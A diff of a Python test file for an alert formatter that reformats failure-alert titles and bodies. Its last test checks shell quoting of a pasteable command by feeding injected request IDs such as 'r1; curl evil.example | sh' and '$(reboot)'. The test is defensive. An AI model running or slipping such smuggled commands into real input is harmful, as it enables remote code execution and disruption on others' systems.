@@ -67,17 +67,23 @@ def test_a_repeat_after_a_crash_has_the_same_key_and_code():
 
 
 def test_the_text_says_what_since_when_how_often_tried_and_who():
-    assert title(view(), "ab12cd") == "[warning] my-fc-job failed: TimeoutError × 1234 #ab12cd"
-    assert body(view(told=5)).splitlines() == [
+    assert title(view(), "ab12cd") == "my-fc-job failed: TimeoutError × 1,234 #ab12cd"
+    assert body(view(told=5, silenced=2)).splitlines() == [
         "Error: Function timed out after 60 seconds",
-        "Count: 1234 since 2026-03-01 11:57:00 UTC, last 2026-03-01 12:00:00 UTC (5 told before)",
-        "Outcome: 1200 of 1234 failed; re-run without success, no attempt or time is left",
-        "Outcome: 34 of 1234 failed; told at once, as the rule wants",
-        "Runbook: https://wiki.example/media",
-        "Owner: media-team · rule: tell",
-        "  req-1 at 2026-03-01 12:00:00 UTC, re-run 2 times",
-        "  … and 1233 more",
+        "Count: 1,234 since 2026-03-01 11:57:00 UTC, last 2026-03-01 12:00:00 UTC",
+        "Before: 5 told, 2 silenced",
+        "Outcome: 1,200 of 1,234 failed; re-run without success, no attempt or time is left",
+        "Outcome: 34 of 1,234 failed; told at once, as the rule wants",
         "Look: triage failures show req-1",
+        "All: triage failures list --function my-fc-job --since 2026-03-01T11:57:00Z",
+        "Run again: triage plan --function my-fc-job --since 2026-03-01T11:57:00Z --state alerted",
+        "Runbook: https://wiki.example/media",
+        "Newest:",
+        "  req-1 at 2026-03-01 12:00:00 UTC, re-run 2 times",
+        "  … and 1,233 more",
+        "Severity: warning",
+        "Owner: media-team",
+        "Rule: tell",
     ]
 
 
@@ -95,13 +101,15 @@ def test_refused_rules_are_told_with_file_line_and_reason():
     sample = WaitingAlert(alert.request_id, alert.cause, alert.detail, NOW, 0)
     told = view(group=alert.group, causes={alert.cause: 1}, samples=(sample,), first_at=NOW)
     reason = "unknown key 'mach' (did you mean 'match'?); and 1 more"
-    assert title(told, "ab12cd") == f"[warning] rule files cannot be used: rules/10-media.yaml:12:5: {reason} #ab12cd"
+    assert title(told, "ab12cd") == f"rule files cannot be used: rules/10-media.yaml:12:5: {reason} #ab12cd"
     assert body(told).splitlines() == [
         f"Error: rules/10-media.yaml:12:5: {reason}",
         "Count: 1 since 2026-03-01 12:00:00 UTC",
         "Outcome: 1 of 1 could not be used; the last good rules stay in force",
-        f"  rules/10-media.yaml:12:5 at 2026-03-01 12:00:00 UTC — {reason}",
         "Look: triage status",
+        "Newest:",
+        f"  rules/10-media.yaml:12:5 at 2026-03-01 12:00:00 UTC — {reason}",
+        "Severity: warning",
     ]
 
 
@@ -114,7 +122,7 @@ def test_all_refused_rules_make_one_group():
 def test_the_command_to_look_can_be_pasted_whatever_the_request_id_is():
     for request_id in ("1-670648a1", "r1; curl evil.example | sh", "$(reboot)", "r'1", "x" * 256):
         sample = replace(SAMPLE, request_id=request_id)
-        command = body(view(samples=(sample,))).splitlines()[-1]
+        (command,) = [line for line in body(view(samples=(sample,))).splitlines() if line.startswith("Look: ")]
         assert shlex.split(command, comments=True) == ["Look:", "triage", "failures", "show", request_id]
 
 
